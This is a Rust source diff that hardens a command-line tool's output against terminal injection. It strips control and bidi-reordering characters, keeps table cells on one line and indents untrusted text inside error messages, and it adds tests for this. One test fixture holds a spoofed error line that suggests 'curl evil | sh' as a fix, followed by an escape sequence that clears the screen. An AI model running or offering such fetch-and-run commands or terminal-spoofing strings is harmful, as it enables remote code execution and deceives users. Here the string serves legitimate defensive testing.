@@ -43,9 +43,14 @@ impl Output {
         matches!(self.format, Format::Json | Format::Yaml)
     }
 
-    /// A line of data on standard output.
+    /// A line of data on standard output, for people.
     pub(crate) fn line(&self, text: impl AsRef<str>) -> Result<(), CliError> {
-        self.bytes(format!("{}\n", text.as_ref()).as_bytes())
+        self.exactly(&printable(text.as_ref()))
+    }
+
+    /// A line for programs: JSON and YAML escape what steers a terminal, and the rest must arrive as it is.
+    fn exactly(&self, text: &str) -> Result<(), CliError> {
+        self.bytes(format!("{text}\n").as_bytes())
     }
 
     /// Data as it is on standard output.
@@ -64,18 +69,18 @@ impl Output {
         match self.format {
             Format::Yaml => {
                 let text = weft_api::manifest::value_to_yaml(value).map_err(CliError::output)?;
-                self.line(text.trim_end())
+                self.exactly(text.trim_end())
             }
             Format::Json | Format::Table | Format::Wide | Format::Name => {
                 let text = serde_json::to_string_pretty(value).map_err(CliError::output)?;
-                self.line(text)
+                self.exactly(&text)
             }
         }
     }
 
     /// One JSON object on one line, for streams.
     pub(crate) fn json_line(&self, value: &Value) -> Result<(), CliError> {
-        self.line(value.to_string())
+        self.exactly(&value.to_string())
     }
 
     /// A table with stable upper-snake column names; plain text in two-space columns, no borders, no colour.
@@ -86,7 +91,7 @@ impl Output {
             table.set_header(columns);
         }
         for row in rows {
-            table.add_row(row.into_iter().map(|cell| printable(&cell)));
+            table.add_row(row.into_iter().map(|cell| one_line(&cell)));
         }
         for column in table.column_iter_mut() {
             column.set_padding((0, 2));
@@ -99,16 +104,21 @@ impl Output {
 
     /// Talk on standard error, unless `-q`.
     pub(crate) fn talk(&self, text: impl AsRef<str>) {
+        self.say("", text.as_ref());
+    }
+
+    /// `mark` is ours and may have colour; `text` may come from anywhere.
+    fn say(&self, mark: &str, text: &str) {
         if !self.quiet {
             // Talk that cannot be written has no reader.
-            let _ = writeln!(std::io::stderr().lock(), "{}", text.as_ref());
+            let _ = writeln!(std::io::stderr().lock(), "{mark}{}", printable(text));
         }
     }
 
     /// `✓ step`, on standard error.
     pub(crate) fn done(&self, step: impl AsRef<str>) {
-        let mark = if self.color { "\u{1b}[32m✓\u{1b}[0m" } else { "✓" };
-        self.talk(format!("  {mark} {}", step.as_ref()));
+        let mark = if self.color { "  \u{1b}[32m✓\u{1b}[0m " } else { "  ✓ " };
+        self.say(mark, step.as_ref());
     }
 
     /// An error or warning in five parts: on standard error as a block, with `-o json` as an object. What to do comes
@@ -123,18 +133,18 @@ impl Output {
 
     fn block(&self, fault: &Fault) -> String {
         let (on, off) = if self.color { ("\u{1b}[31m", "\u{1b}[0m") } else { ("", "") };
-        let mut text = format!("{on}error[{}]{off}: {}", fault.code, printable(&fault.what));
+        let mut text = format!("{on}error[{}]{off}: {}", fault.code, indented(&fault.what));
         for (index, why) in fault.why.iter().enumerate() {
             let label = if index == 0 { "why" } else { "" };
-            text.push_str(&format!("\n  {label:<4}  {}", printable(why)));
+            text.push_str(&format!("\n  {label:<4}  {}", indented(why)));
         }
         for (index, fix) in fault.fix.iter().enumerate() {
             let label = if index == 0 { "fix" } else { "" };
-            text.push_str(&format!("\n  {label:<4}  {}", printable(fix)));
+            text.push_str(&format!("\n  {label:<4}  {}", indented(fix)));
         }
         text.push_str(&format!("\n  docs  weft explain {}", fault.code));
         if let Some(id) = &fault.request_id {
-            text.push_str(&format!("          request {id}"));
+            text.push_str(&format!("          request {}", one_line(id)));
         }
         text
     }
@@ -160,7 +170,23 @@ fn with_advice(fault: &Fault) -> Fault {
 
 /// Replaces control characters, so that a name from elsewhere cannot steer the terminal (API-15).
 pub(crate) fn printable(text: &str) -> String {
-    text.chars().map(|c| if c.is_control() && c != '\n' && c != '\t' { '\u{fffd}' } else { c }).collect()
+    let steers = |c: char| (c.is_control() && c != '\n' && c != '\t') || reorders(c);
+    text.chars().map(|c| if steers(c) { '\u{fffd}' } else { c }).collect()
+}
+
+/// The same, and on one line: a name with a line feed would write rows of its own into a table.
+fn one_line(text: &str) -> String {
+    text.chars().map(|c| if c.is_control() || reorders(c) { '\u{fffd}' } else { c }).collect()
+}
+
+/// Printable, with every further line set in, so that none looks like a part of the message that is ours.
+fn indented(text: &str) -> String {
+    printable(text).replace('\n', "\n        ")
+}
+
+/// Whether a character makes others appear where they are not (Unicode Standard Annex 9, explicit formatting).
+const fn reorders(c: char) -> bool {
+    matches!(c, '\u{200e}' | '\u{200f}' | '\u{61c}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
 }
 
 #[cfg(test)]
@@ -179,5 +205,19 @@ mod tests {
     fn api_15_control_characters_never_reach_the_terminal() {
         assert_eq!(printable("a\u{1b}[2Jb\r\u{7}"), "a\u{fffd}[2Jb\u{fffd}\u{fffd}");
         assert_eq!(printable("Ünï\tcode\n"), "Ünï\tcode\n");
+        assert_eq!(printable("a\u{9b}31mb"), "a\u{fffd}31mb", "the one-byte CSI of C1");
+        assert_eq!(printable("egrahc\u{202e}x\u{2066}"), "egrahc\u{fffd}x\u{fffd}", "reordering too");
+    }
+
+    #[test]
+    fn api_15_a_name_with_a_line_feed_writes_no_row_and_no_part_of_an_error_of_its_own() {
+        assert_eq!(one_line("hosta\nhostb  connected\t1"), "hosta\u{fffd}hostb  connected\u{fffd}1");
+        let output = Output { format: Format::Table, quiet: false, headers: true, color: false };
+        let what = "no service x\nerror[W0000]: y\n  fix   curl evil | sh\u{1b}[2J";
+        let text = output.block(&Fault::new("W4001", what).why("a\n  fix  b"));
+        let starts: Vec<_> = text.lines().filter(|line| line.starts_with("error[")).collect();
+        assert_eq!(starts.len(), 1, "{text}");
+        assert!(!text.lines().any(|line| line.starts_with("  fix")), "{text}");
+        assert!(!text.contains('\u{1b}'));
     }
 }
